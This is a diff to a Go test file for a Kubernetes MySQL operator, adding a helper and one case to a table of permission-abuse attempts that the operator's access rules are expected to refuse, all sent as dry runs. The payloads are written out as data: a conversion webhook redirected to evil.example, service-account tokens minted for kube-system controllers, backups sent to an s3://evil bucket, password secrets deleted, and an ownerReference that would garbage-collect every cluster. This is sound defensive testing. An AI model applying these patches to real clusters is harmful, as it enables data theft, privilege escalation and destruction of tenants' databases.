@@ -45,8 +45,12 @@ func newThief(t *testing.T, kinds ...schema.Kind) thief {
 
 // convertsElsewhere sends every MySQLCluster through somebody's webhook.
 func (f thief) convertsElsewhere(ctx context.Context) error {
-	changes := []byte(`{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://evil.example/convert"}}}}}`)
-	_, err := f.client.Resource(definitionResource()).Patch(ctx, mysqlClusters().DefinitionName(), types.MergePatchType, changes, metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+	return f.redefines(ctx, `{"spec":{"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://evil.example/convert"}}}}}`)
+}
+
+// redefines changes the definition of MySQLClusters.
+func (f thief) redefines(ctx context.Context, changes string) error {
+	_, err := f.client.Resource(definitionResource()).Patch(ctx, mysqlClusters().DefinitionName(), types.MergePatchType, []byte(changes), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
 	return err
 }
 
@@ -154,30 +158,33 @@ func (f thief) onOthers(t *testing.T) map[string]attack {
 	return map[string]attack{
 		"a token of kube-system's controllers": {f.creates(kubeSystem, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: evil, "+ours+
 			", annotations: {kubernetes.io/service-account.name: clusterrole-aggregation-controller}}}"), "the operator"},
-		"a token of an account here":         {f.creates(here, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: evil, "+ours+", annotations: {kubernetes.io/service-account.name: cloud}}}"), "Opaque only"},
-		"a Secret of a bootstrap token":      {f.creates(here, "secrets", apply+"Secret, type: bootstrap.kubernetes.io/token, metadata: {name: evil, "+ours+"}}"), "Opaque only"},
-		"a Job in kube-system":               {f.creates(kubeSystem, "jobs", job(restrictedPod)), "namespaces of Kubernetes"},
-		"a ConfigMap in kube-system":         {f.creates(kubeSystem, "configmaps", apply+"ConfigMap, metadata: {name: evil, "+ours+"}}"), "namespaces of Kubernetes"},
-		"the image of a privileged Pod":      {f.runs(here, "agent", "evil"), "the operator changes"},
-		"a label of somebody's Pod":          {f.patches(here, "pods", "agent", `{"metadata":{"labels":{"role":"primary"}}}`), "Pods of its own workloads"},
-		"the cluster's DNS":                  {f.patches(here, "configmaps", "coredns", `{"data":{"Corefile":"evil"}}`), "only what it made"},
-		"the same with the mark":             {f.patches(here, "configmaps", "coredns", `{"metadata":{"labels":{"app.kubernetes.io/managed-by":"mysql-operator"}}}`), "only what it made"},
-		"a Service's selector":               {f.patches(here, "services", "shop", `{"spec":{"selector":{"app":"evil"}}}`), "the operator"},
-		"a Service's external address":       {f.patches(here, "services", "shop", `{"spec":{"externalIPs":["192.0.2.1"]}}`), "the operator"},
-		"an external address of its own":     {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {externalIPs: [192.0.2.1], ports: [{port: 443}]}}"), "inside the cluster only"},
-		"a Service for another name":         {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {type: ExternalName, externalName: evil.example}}"), "inside the cluster only"},
-		"a cloud's role for an account":      {f.patches(here, "serviceaccounts", "cloud", `{"metadata":{"annotations":{"eks.amazonaws.com/role-arn":"admin"}}}`), "the operator"},
-		"an account with a cloud's role":     {f.creates(here, "serviceaccounts", apply+"ServiceAccount, metadata: {name: evil, "+ours+", annotations: {eks.amazonaws.com/role-arn: admin}}}"), "no annotations"},
-		"somebody's claim":                   {f.patches(here, "persistentvolumeclaims", "data", `{"metadata":{"annotations":{"volume.kubernetes.io/selected-node":"mine"}}}`), "the operator"},
-		"a cluster's passwords":              {f.deletes(here, "secrets", "db-accounts"), "deletes no Secrets but those with CAs"},
-		"a Secret at the operator's home":    {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: evil, "+ours+"}}"), "Secrets with CAs of clusters only"},
-		"one that is called almost so":       {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: ca.evil, "+ours+"}}"), "Secrets with CAs of clusters only"},
-		"a token in the name of a CA":        {f.creates(f.home, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: ca.shop.evil, "+ours+", annotations: {kubernetes.io/service-account.name: default}}}"), "Opaque only"},
-		"a change of a Secret there":         {f.patches(f.home, "secrets", "pull-credentials", `{"stringData":{"a":"c"}}`), "Secrets with CAs of clusters only"},
-		"the deletion of a Secret there":     {f.deletes(f.home, "secrets", "pull-credentials"), "deletes no Secrets but those with CAs"},
-		"somebody's Secret":                  {f.patches(here, "secrets", "theirs", `{"stringData":{"a":"c"}}`), "only what it made"},
-		"another tenant's cluster":           {f.patches(here, "mysqlclusters", "db", `{"spec":{"image":"evil"}}`), "never writes spec"},
-		"its end by garbage collection":      {f.patches(here, "mysqlclusters", "db", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Secret","name":"none","uid":"none"}]}}`), "nor owners"},
+		"a token of an account here":      {f.creates(here, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: evil, "+ours+", annotations: {kubernetes.io/service-account.name: cloud}}}"), "Opaque only"},
+		"a Secret of a bootstrap token":   {f.creates(here, "secrets", apply+"Secret, type: bootstrap.kubernetes.io/token, metadata: {name: evil, "+ours+"}}"), "Opaque only"},
+		"a Job in kube-system":            {f.creates(kubeSystem, "jobs", job(restrictedPod)), "namespaces of Kubernetes"},
+		"a ConfigMap in kube-system":      {f.creates(kubeSystem, "configmaps", apply+"ConfigMap, metadata: {name: evil, "+ours+"}}"), "namespaces of Kubernetes"},
+		"the image of a privileged Pod":   {f.runs(here, "agent", "evil"), "the operator changes"},
+		"a label of somebody's Pod":       {f.patches(here, "pods", "agent", `{"metadata":{"labels":{"role":"primary"}}}`), "Pods of its own workloads"},
+		"the cluster's DNS":               {f.patches(here, "configmaps", "coredns", `{"data":{"Corefile":"evil"}}`), "only what it made"},
+		"the same with the mark":          {f.patches(here, "configmaps", "coredns", `{"metadata":{"labels":{"app.kubernetes.io/managed-by":"mysql-operator"}}}`), "only what it made"},
+		"a Service's selector":            {f.patches(here, "services", "shop", `{"spec":{"selector":{"app":"evil"}}}`), "the operator"},
+		"a Service's external address":    {f.patches(here, "services", "shop", `{"spec":{"externalIPs":["192.0.2.1"]}}`), "the operator"},
+		"an external address of its own":  {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {externalIPs: [192.0.2.1], ports: [{port: 443}]}}"), "inside the cluster only"},
+		"a Service for another name":      {f.creates(here, "services", apply+"Service, metadata: {name: evil, "+ours+"}, spec: {type: ExternalName, externalName: evil.example}}"), "inside the cluster only"},
+		"a cloud's role for an account":   {f.patches(here, "serviceaccounts", "cloud", `{"metadata":{"annotations":{"eks.amazonaws.com/role-arn":"admin"}}}`), "the operator"},
+		"an account with a cloud's role":  {f.creates(here, "serviceaccounts", apply+"ServiceAccount, metadata: {name: evil, "+ours+", annotations: {eks.amazonaws.com/role-arn: admin}}}"), "no annotations"},
+		"somebody's claim":                {f.patches(here, "persistentvolumeclaims", "data", `{"metadata":{"annotations":{"volume.kubernetes.io/selected-node":"mine"}}}`), "the operator"},
+		"a cluster's passwords":           {f.deletes(here, "secrets", "db-accounts"), "deletes no Secrets but those with CAs"},
+		"a Secret at the operator's home": {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: evil, "+ours+"}}"), "Secrets with CAs of clusters only"},
+		"one that is called almost so":    {f.creates(f.home, "secrets", apply+"Secret, metadata: {name: ca.evil, "+ours+"}}"), "Secrets with CAs of clusters only"},
+		"a token in the name of a CA":     {f.creates(f.home, "secrets", apply+"Secret, type: kubernetes.io/service-account-token, metadata: {name: ca.shop.evil, "+ours+", annotations: {kubernetes.io/service-account.name: default}}}"), "Opaque only"},
+		"a change of a Secret there":      {f.patches(f.home, "secrets", "pull-credentials", `{"stringData":{"a":"c"}}`), "Secrets with CAs of clusters only"},
+		"the deletion of a Secret there":  {f.deletes(f.home, "secrets", "pull-credentials"), "deletes no Secrets but those with CAs"},
+		"somebody's Secret":               {f.patches(here, "secrets", "theirs", `{"stringData":{"a":"c"}}`), "only what it made"},
+		"another tenant's cluster":        {f.patches(here, "mysqlclusters", "db", `{"spec":{"image":"evil"}}`), "never writes spec"},
+		"its end by garbage collection":   {f.patches(here, "mysqlclusters", "db", `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Secret","name":"none","uid":"none"}]}}`), "nor owners"},
+		"that of all clusters": {func(ctx context.Context, _ *testing.T) error {
+			return f.redefines(ctx, `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"Namespace","name":"none","uid":"none"}]}}`)
+		}, "no owners, with which they and all their objects"},
 		"the deletion of a cluster":          {f.deletes(here, "mysqlclusters", "db"), "of schedules only"},
 		"a cluster of one's own":             {f.creates(here, "mysqlclusters", "{apiVersion: cr.mysqloperator.grtl.github.com/v1, kind: MySQLCluster, metadata: {name: evil}, spec: {secret: root}}"), "of schedules only"},
 		"where a schedule's backups go":      {f.patches(here, "mysqlbackupschedules", "nightly", `{"spec":{"destination":{"url":"s3://evil/b?region=r"}}}`), "never writes spec"},
